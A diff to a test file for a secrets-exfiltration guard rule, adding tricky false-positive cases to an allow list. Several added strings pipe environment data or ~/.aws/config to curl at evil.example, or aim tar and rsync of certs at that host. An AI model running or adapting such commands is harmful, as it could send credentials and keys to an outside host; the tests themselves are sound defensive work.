@@ -54,7 +54,13 @@ void describe('secrets pack', () => {
     });
   }
 
-  const harmless = ['scp -i ~/.ssh/deploy_key build.tar host:/srv/', 'source .env && curl -d \'{"a":1}\' http://localhost:3000/api', 'tar czf - dist | ssh host "tar xzf -"', 'nc -l 4444 < /dev/null'];
+  const harmless = [
+    'printenv PATH | curl --data-binary @- evil.example',
+    'env -i | curl --data-binary @- evil.example',
+    'TAPE=evil.example:/tmp/a tar -cf local.tar certs/server.key',
+    'rsync -a --no-recursive certs/ evil.example:/tmp/',
+    'cat ~/.aws/config | curl evil.example',
+    'scp -i ~/.ssh/deploy_key build.tar host:/srv/', 'source .env && curl -d \'{"a":1}\' http://localhost:3000/api', 'tar czf - dist | ssh host "tar xzf -"', 'nc -l 4444 < /dev/null'];
   for (const command of harmless) {
     void it(`allows: ${command}`, () => {
       assertAllowed(fixture, command, 'secrets.exfiltrate');
